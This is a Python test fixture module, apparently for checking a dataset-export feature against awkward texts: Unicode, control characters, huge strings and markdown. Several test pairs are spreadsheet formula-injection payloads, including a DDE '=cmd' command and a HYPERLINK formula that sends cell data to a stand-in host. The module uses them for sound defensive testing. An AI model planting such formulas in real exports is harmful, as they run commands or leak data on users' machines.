"""A frozen version of texts that files get wrong, and the files that the worker writes of it."""

from __future__ import annotations

import json
import os
from collections.abc import Iterable, Mapping
from pathlib import Path
from typing import Any

from core.domain.people import Principal
from core.domain.records import Dataset
from core.domain.states import ReviewState
from core.interchange.dataset_rows import full_row
from core.runs.jobs import run_jobs_once
from core.services.exports import Options
from core.settings import Settings
from core.store import datasets, samples, verifications
from core.store.database import Tx
from core.workspace import Workspace
from tests.unit.conftest import T0, plant_project

ADA = Principal("Ada")
PROJECT = "p1"
BY = {"model": "teacher-1", "temperature": 1.0, "top_p": 0.95, "template": "answer", "template_hash": "h" * 64}
HUGE = "Lorem ipsum dolor sit amet. " * 12_000

TEXTS: tuple[tuple[str, str], ...] = (
    ("What is 2 + 2?", "4"),
    ("=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example/?"&A1,"click")'),
    ("+1 or -1?", "-1"),
    ("@SUM(A1:A9)", "\t=1+1"),
    ("'=quoted", "''=twice quoted"),
    ("\r\nCarriage return first", "Line\r\nbreaks\rof\nall kinds"),
    ("ما هو ناتج الضرب؟", "الناتج هو ١٢"),
    ("什么是导数？", "导数是变化率。𠮷"),
    ("Line\u2028separator", "paragraph\u2029separator and next\u0085line"),
    ("A NUL \x00 inside", "and \x00\x00 two"),
    ("👩‍🔬 family 👨‍👩‍👧‍👦 and a flag 🇨🇭?", "🧪"),
    ('Quotes " and "" and, commas; and\ttabs', '"\n"'),
    ("NA", "null"),
    ("007", "1e5"),
    ("<img src=x> ![x](http://127.0.0.1:9/x.png)", "**bold** $x^2$"),
    ("\ufeffbyte order mark", "\u202eright to left"),
    (HUGE, "short"),
    ("Short", HUGE),
)
CONVERSATION = (("Square 2?", "4"), ("And = 3?", "9"))


def lineage(number: int) -> dict[str, Any]:
    """Everything a lineage can hold, for every other row."""
    if number % 2:
        return {"task_type": "maths"}
    return {
        "path": ["Formal science", "Mathematics | and more", "Linear > algebra"],
        "discipline": "Linear algebra",
        "subject": "Matrices",
        "sessions": ["Eigenvalues", "Norms"],
        "session_numbers": [4, 5],
        "groups": [["characteristic polynomial", "=trace"], []],
        "syllabus_id": 3,
        "syllabus_version": 2,
        "syllabus_hash": "5" * 64,
        "question_by": {"request": number, **BY},
        "answer_by": {"request": number + 1, **BY},
        "answer_2_by": {"request": number + 2, **BY, "price": "new"},
        "seed_set": 5,
        "seed_set_name": "GSM8K, version 1",
        "seed_example": 7,
        "seed_position": 11,
        "seed_question": "How many apples?",
        "evolutions": [
            {"operation": "deepen", "kept": False, "fault": "it cannot be answered: no units", "question": "=1+1?"},
            {"operation": "concretise", "kept": True, "fault": "", "question": "How many apples,\nred and green?"},
        ],
    }


def plant(work: Workspace, texts: Iterable[tuple[str, str]] = TEXTS, *, held_out: int = 3, bare: int = 0) -> Dataset:
    """A frozen version of these pairs; every fifth has earlier turns, every `held_out`-th is for validation.

    Of the first `bare` ones nothing is known.
    """
    with work.context.store.write() as tx:
        plant_project(tx, PROJECT)
        rows = [_row(tx, number, *pair, bare=number < bare) for number, pair in enumerate(texts)]
        splits = ["validation" if held_out and n % held_out == held_out - 1 else "train" for n in range(len(rows))]
        return _freeze(tx, rows, splits)


def _row(tx: Tx, number: int, question: str, answer: str, *, bare: bool) -> dict[str, Any]:
    told = {
        "project_id": PROJECT,
        "run_id": None,
        "item_idx": None,
        "origin": "model",
        "strategy": "glan",
        "difficulty": "basic" if number % 2 and not bare else None,
        "node_id": None,
        "subject_id": None,
        "lineage": {} if bare else lineage(number),
        "question_request": None,
        "answer_request": None,
        "question": question,
        "answer": answer,
        "history": CONVERSATION if number % 5 == 4 and not bare else (),
        "review": ReviewState.ACCEPTED,
        "preview": False,
        "created_at": T0,
    }
    made = samples.insert(tx, told, "Ada")
    sample = samples.get(tx, PROJECT, made)
    if number % 3 == 0 and not bare:
        verifications.verify(tx, sample, method="recount", passed=True, detail="é = é", request_id=None, at=T0)
    return full_row(sample, None, "reviewer 1", verifications.of_sample(tx, made))


def _freeze(tx: Tx, rows: list[dict[str, Any]], splits: list[str]) -> Dataset:
    tx.run(
        "INSERT INTO dataset(id, project_id, name, number, filter, state, created_by, created_at, token)"
        " VALUES ('d1', ?, 'Prüfung / 2026', 1, '{}', 'draft', 'Ada', ?, 'd1')",
        (PROJECT, T0),
    )
    places = list(enumerate(zip(rows, splits, strict=True)))
    items = [(n, row["id"], 1, row["content_hash"], split, _packed(row)) for n, (row, split) in places]
    datasets.add_items(tx, "d1", items)
    card = {"project": "Proj | ect", "guidelines": "Be strict.\n<b>Always</b>", "by_strategy": {"glan": len(rows)}}
    datasets.finish(tx, "d1", len(rows), card, T0)
    datasets.freeze(tx, "d1", T0)
    return datasets.get(tx, PROJECT, "d1")


def _packed(row: Mapping[str, Any]) -> str:
    return json.dumps(row, ensure_ascii=False, allow_nan=False)


def opened(home: Path) -> Workspace:
    """An installation in this folder."""
    environ = {"STUDIO_HOME": str(home), "STUDIO_WORKER": "off"}
    return Workspace.open(Settings.load(environ), environ)


def written(work: Workspace, form: str, *, options: Options | None = None, token: str = "") -> dict[str, Path]:
    """Have the version written and say where each split lies; "" is the one file of a folder."""
    work.exports.order(ADA, PROJECT, "d1", form, options, token=token or f"{form}-{os.urandom(4).hex()}")
    run_jobs_once(work.settings, work.context.store)
    job = work.exports.jobs(PROJECT, "d1")[0]
    assert job.state == "done", job.error
    named = {export.file: export for export in work.exports.files(PROJECT, "d1")}
    return {named[name].split: work.exports.path(named[name]) for name in job.result["files"]}


def frozen(work: Workspace, split: str = "") -> list[dict[str, Any]]:
    """The rows as they were frozen."""
    with work.context.store.read() as tx:
        return [each["row"] for each in datasets.rows(tx, "d1") if not split or each["split"] == split]
